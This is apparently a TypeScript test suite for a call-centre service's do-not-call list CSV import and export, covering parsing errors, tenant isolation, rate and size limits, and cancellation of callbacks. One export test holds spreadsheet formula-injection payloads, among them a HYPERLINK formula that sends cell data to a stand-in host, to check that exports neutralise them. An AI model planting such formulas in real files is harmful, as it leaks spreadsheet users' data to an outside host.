import { beforeEach, describe, expect, it } from 'vitest'
import { TestClock } from '../../test/harness/clock.ts'
import { useDatabase } from '../../test/harness/database.ts'
import { makeTenantWithToken, useTenantServer } from '../../test/harness/tenant-server.ts'
import type { TenantId } from '../kernel/ids.ts'
import type { PhoneNumber } from '../kernel/phone.ts'
import { makeLog } from '../platform/log.ts'
import { storedEvents, tenantTold } from '../records/calls.fixture.ts'
import { makeTaskDesk } from './callback-task-desk.ts'
import { callbackTaskRoutes } from './callback-task-routes.ts'
import { makeDoNotCall } from './do-not-call.ts'
import { doNotCallListRoutes } from './do-not-call-list-routes.ts'
import { MAX_LIST_BYTES, makeDncLists } from './do-not-call-lists.ts'
import { doNotCallRoutes } from './do-not-call-routes.ts'

const ANN = '+12025550101'
const BEN = '+12025550102'

const test = useDatabase()
const log = makeLog({ level: 'silent', secrets: [] })
const clock = new TestClock()
const tenants = { get: async (id: TenantId) => tenantTold(id) }
const server = useTenantServer(
  () => test.db,
  () => [
    doNotCallRoutes(makeDoNotCall({ db: test.db, clock, log, tenants })),
    doNotCallListRoutes(makeDncLists({ db: test.db, clock, tenants })),
    callbackTaskRoutes(makeTaskDesk({ db: test.db, clock, log, tenants })),
  ],
)

beforeEach(async () => {
  for (const id of ['acme', 'globex']) await makeTenantWithToken(test.db, id)
})

type Sent = { tenant?: string | null; type?: string }

async function send(body: string | Buffer, { tenant = 'acme', type = 'text/csv' }: Sent = {}) {
  const { status, text } = await server.send(tenant, 'POST', '/dnc/import', { type, body })
  return { status, body: JSON.parse(text) as Record<string, unknown> }
}

describe('POST dnc/import', () => {
  it('lists what can be listed, tells what cannot by its line, and tells the tenant of each number', async () => {
    await server.call('acme', 'POST', '/dnc', { phone: BEN, reason: 'Asked.' })
    const list = [
      '\uFEFFPhone, Reason',
      `${ANN},"Wrote, twice"`,
      `${BEN},Another reason`,
      '12025550103,No plus',
      '',
      ` ${ANN} ,Again`,
      `+12025550104,x,y`,
      '+12025550105',
    ]
    expect(await send(list.join('\r\n'))).toEqual({
      status: 200,
      body: {
        ok: true,
        imported: 2,
        duplicates: 2,
        rejected: 2,
        errors: [
          { line: 4, error: 'phone must be a phone number in E.164, like +14155550100' },
          { line: 7, error: 'has more fields than there are columns' },
        ],
      },
    })
    const entry = async (phone: string) => (await server.call('acme', 'GET', `/dnc/${phone}`)).body
    expect(await entry(ANN)).toMatchObject({ entry: { reason: 'Wrote, twice', source: 'import' } })
    expect(await entry(BEN)).toMatchObject({ entry: { reason: 'Asked.', source: null } })
    expect(await entry('+12025550105')).toMatchObject({ entry: { reason: null } })
    expect(await storedEvents(test.db)).toHaveLength(3)
    expect(await server.call('globex', 'GET', `/dnc/${ANN}`)).toMatchObject({ status: 404 })
  })

  it('takes a list that has columns at its end in which nothing stands, as a spreadsheet writes them', async () => {
    const { body } = await send(`phone,reason,,\n${ANN},Asked.,,\n${BEN},,,yes\n`)
    expect(body).toMatchObject({ imported: 1, errors: [{ line: 3, error: 'has more fields than there are columns' }] })
  })

  const statusOf = async (phone: string) => {
    const path = `/callback-tasks?customer_phone=${encodeURIComponent(phone)}`
    return (await server.call<{ tasks: { status: string }[] }>('acme', 'GET', path)).body.tasks[0]?.status
  }

  it('leaves the callback that somebody on a list has asked for, which one who is listed alone does not want', async () => {
    for (const phone of [ANN, BEN]) await server.call('acme', 'POST', '/callback-tasks', { customer_phone: phone })
    await send(`phone\n${ANN}\n`)
    await server.call('acme', 'POST', '/dnc', { phone: ANN, reason: 'Told again.' })
    await server.call('acme', 'POST', '/dnc', { phone: BEN })
    expect([await statusOf(ANN), await statusOf(BEN)]).toEqual(['open', 'cancelled'])
  })

  it('leaves no callback of somebody on a list who says in a call that they are not to be called', async () => {
    await send(`phone\n${ANN}\n`)
    await server.call('acme', 'POST', '/callback-tasks', { customer_phone: ANN })
    const said = { phone: ANN as PhoneNumber, reason: 'Do not call me.', source: 'Robin', isWish: true }
    await makeDoNotCall({ db: test.db, clock, log, tenants }).add('acme' as TenantId, said)
    expect(await statusOf(ANN)).toBe('cancelled')
  })

  it('leaves no callback of a number that is listed, also one that was kept with the 0 of its country', async () => {
    const number = '+442079460000'
    await server.call('acme', 'POST', '/callback-tasks', { customer_phone: number })
    const kept = '+4402079460000' as PhoneNumber
    await test.db.updateTable('callback_tasks').set({ customer_phone: kept }).execute()
    await server.call('acme', 'POST', '/dnc', { phone: number })
    const tasks = await test.db.selectFrom('callback_tasks').select(['customer_phone', 'status']).execute()
    expect(tasks).toEqual([{ customer_phone: kept, status: 'cancelled' }])
  })

  it('refuses a list that is not in UTF-8, and says how to save it', async () => {
    const refused = await send(Buffer.from(`phone,reason\n${ANN},Müller\n`, 'latin1'))
    expect(refused).toMatchObject({ status: 400, body: { code: 'invalid_request' } })
    expect(refused.body['error']).toContain('save the list as CSV UTF-8')
    expect(await server.call('acme', 'GET', `/dnc/${ANN}`)).toMatchObject({ status: 404 })
  })

  it('takes thousands of numbers, and nothing of them twice', async () => {
    const numbers = Array.from({ length: 2_500 }, (_, index) => `+1202555${String(index).padStart(4, '0')}`)
    const list = `phone\n${numbers.join('\n')}`
    expect(await send(list)).toMatchObject({ body: { imported: 2_500, duplicates: 0, rejected: 0 } })
    expect(await send(Buffer.from(list))).toMatchObject({ body: { imported: 0, duplicates: 2_500 } })
    const { status, text } = await server.send('acme', 'GET', '/dnc/export')
    const [header, ...lines] = text.split('\r\n')
    expect([status, header, lines.pop()]).toEqual([200, 'phone,reason', ''])
    expect(lines.toSorted()).toEqual(numbers.map((number) => `${number},`))
  })

  it('does not go on where quotes do not end', async () => {
    expect(await send(`phone,reason\n${ANN},fine\n${BEN},"never\n+12025550103,x\n`)).toMatchObject({
      status: 200,
      body: { imported: 1, rejected: 1, errors: [{ line: 3, error: expect.stringContaining('do not end') }] },
    })
  })

  it('reads two of a tenant at a time, and leaves room for those of others', async () => {
    const lists = makeDncLists({ db: test.db, clock, tenants })
    const [acme, globex] = ['acme' as TenantId, 'globex' as TenantId]
    const list = (phone: string, rest = Promise.resolve()) =>
      (async function* () {
        yield Buffer.from(`phone\n${phone}\n`)
        await rest
      })()
    const { promise: rest, resolve: end } = Promise.withResolvers<void>()
    const read = Array.from({ length: 2 }, () => lists.import(acme, list(BEN, rest)))
    await expect(lists.import(acme, list(ANN))).rejects.toMatchObject({ code: 'rate_limited' })
    expect(await lists.import(globex, list(ANN))).toMatchObject({ imported: 1 })
    end()
    const done = await Promise.all(read)
    expect(done.map(({ imported }) => imported).toSorted()).toEqual([0, 1])
    expect(await lists.import(acme, list(ANN))).toMatchObject({ imported: 1 })
  })

  it('writes three at a time, so that calls have the other connections', async () => {
    let [open, most] = [0, 0]
    const counted: typeof test.db = new Proxy(test.db, {
      get(db, name) {
        if (name !== 'transaction') return Reflect.get(db, name)
        return () => ({
          async execute(work: Parameters<ReturnType<typeof db.transaction>['execute']>[0]) {
            open += 1
            most = Math.max(most, open)
            return db
              .transaction()
              .execute(work)
              .finally(() => {
                open -= 1
              })
          },
        })
      },
    })
    const lists = makeDncLists({ db: counted, clock, tenants })
    async function* rows(from: number) {
      for (let at = 0; at < 500; at += 1) {
        if (at === 0) yield Buffer.from('phone\n')
        yield Buffer.from(`+1202555${String(from + at).padStart(4, '0')}\n`)
      }
    }
    const tenantIds = ['acme', 'acme', 'globex', 'globex'] as TenantId[]
    const done = await Promise.all(tenantIds.map((id, index) => lists.import(id, rows(1_000 + index * 500))))
    expect(done.map(({ imported }) => imported)).toEqual([500, 500, 500, 500])
    expect(most).toBeLessThanOrEqual(3)
  })

  it('refuses what is no such list', async () => {
    for (const [list, path] of [
      ['', '/body'],
      [`${ANN}\n`, '/body'],
      [`reason\nx`, '/body'],
      [`phone,name\n${ANN},Ann`, '/body/name'],
      [`phone,phone\n${ANN},${ANN}`, '/body/phone'],
    ] as const) {
      expect(await send(list)).toMatchObject({ status: 400, body: { code: 'invalid_request', details: [{ path }] } })
    }
    expect(await send('', { type: 'text/csv; charset=utf-8' })).toMatchObject({ status: 400 })
    expect(await send('{"phone":"x"}', { type: 'application/json' })).toMatchObject({ status: 415 })
    expect(await send(`phone\n${'x'.repeat(MAX_LIST_BYTES)}`)).toMatchObject({ status: 413 })
    expect(await send(`phone\n${ANN}`, { tenant: null })).toMatchObject({ status: 401 })
  })

  it('reads no list further than one may be long, whatever was said of its length', async () => {
    const chunks = async function* () {
      yield Buffer.from('phone\n')
      yield Buffer.alloc(MAX_LIST_BYTES, 'x')
    }
    const lists = makeDncLists({ db: test.db, clock, tenants })
    await expect(lists.import('acme' as TenantId, chunks())).rejects.toMatchObject({ code: 'body_too_large' })
  })
})

describe('GET dnc/export', () => {
  it("gives the tenant's own list, newest first, as it can be imported again", async () => {
    await server.call('globex', 'POST', '/dnc', { phone: '+12025550109' })
    await server.call('acme', 'POST', '/dnc', { phone: ANN, reason: 'Said "no", and hung up' })
    await clock.advance(1)
    await server.call('acme', 'POST', '/dnc', { phone: BEN })
    const { status, text } = await server.send('acme', 'GET', '/dnc/export')
    expect({ status, text }).toEqual({
      status: 200,
      text: `phone,reason\r\n${BEN},\r\n${ANN},"Said ""no"", and hung up"\r\n`,
    })
    expect(await send(text, { tenant: 'globex' })).toMatchObject({ body: { imported: 2, rejected: 0 } })
  })

  it('has nothing that a spreadsheet runs, and is imported as it was', async () => {
    const reasons = ['=HYPERLINK("https://x.example?"&A1)', "'=1", '@SUM(A1)', '-2+3', '+A1']
    for (const [n, reason] of reasons.entries())
      await server.call('acme', 'POST', '/dnc', { phone: `+1202555011${n}`, reason })
    const { text } = await server.send('acme', 'GET', '/dnc/export')
    expect(text).not.toMatch(/(^|[,"\n])([=@-]|\+\D)/)
    await send(text, { tenant: 'globex' })
    for (const [n, reason] of reasons.entries()) {
      const { body } = await server.call('globex', 'GET', `/dnc/+1202555011${n}`)
      expect(body).toMatchObject({ entry: { reason } })
    }
  })

  it('refuses strangers and what it does not know', async () => {
    expect(await server.send(null, 'GET', '/dnc/export')).toMatchObject({ status: 401 })
    expect(await server.send('acme', 'GET', '/dnc/export?format=xml')).toMatchObject({ status: 400 })
  })
})

describe('HEAD dnc/export', () => {
  it('has the headers of the list and nothing of it', async () => {
    await server.call('acme', 'POST', '/dnc', { phone: ANN })
    const { headers } = await server.send('acme', 'GET', '/dnc/export')
    const head = await server.send('acme', 'HEAD', '/dnc/export')
    expect(head).toMatchObject({ status: 200, text: '' })
    for (const name of ['content-type', 'content-disposition']) expect(head.headers[name]).toBe(headers[name])
    expect(await server.send(null, 'HEAD', '/dnc/export')).toMatchObject({ status: 401 })
  })
})
